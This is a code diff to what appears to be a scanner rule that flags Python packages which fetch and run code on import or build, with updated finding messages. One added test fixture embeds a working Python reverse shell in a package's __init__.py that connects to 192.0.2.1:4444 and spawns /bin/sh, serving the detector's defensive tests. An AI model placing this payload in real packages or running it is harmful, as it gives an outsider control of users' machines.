@@ -56,6 +56,14 @@ export default rule({
       },
     },
     {
+      wheel: {
+        files: {
+          'demo/__init__.py':
+            'import os\nimport pty\nimport socket\n\ns = socket.socket()\ns.connect(("192.0.2.1", 4444))\nfor fd in (0, 1, 2):\n    os.dup2(s.fileno(), fd)\npty.spawn("/bin/sh")\n',
+        },
+      },
+    },
+    {
       baseline: [{ wheel: { version: '0.9' } }],
       release: [
         {
@@ -98,7 +106,7 @@ export default rule({
       wheel: {
         files: {
           'demo/__init__.py':
-            'import subprocess\n\nrevision = subprocess.run(["git", "describe"], capture_output=True).stdout\n',
+            'import socket\nimport subprocess\n\nrevision = subprocess.run(["git", "describe"], capture_output=True).stdout\nprobe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\nprobe.connect(("192.0.2.1", 80))\nprint(probe.fileno(), probe.getsockname())\n',
         },
       },
     },
@@ -133,8 +141,9 @@ const deedsOf = oncePer((subject: Wheel | Sdist): Draft | undefined => {
     const start = found?.starts.find(({ line }) => line >= (download?.line ?? 0)) ?? found?.starts[0]
     if (!download || !start) continue
     const when = subject.kind === 'wheel' ? 'when it is imported' : 'when it is built'
-    const what =
-      start.line === download.line
+    const what = download.isRemote
+      ? `connects to a server (${quote(download.call)}) and starts a program that the server controls (${quote(start.call)} on line ${start.line})`
+      : start.line === download.line
         ? `downloads something and starts it (${quote(start.call)})`
         : `downloads something (${quote(download.call)}) and ${/^(?:subprocess|os)\./.test(start.call) ? 'starts a program' : 'runs code'} (${quote(start.call)} on line ${start.line})`
     return finding({ member, line: download.line, column: download.column }, `${quote(member)} ${what} ${when}.`)
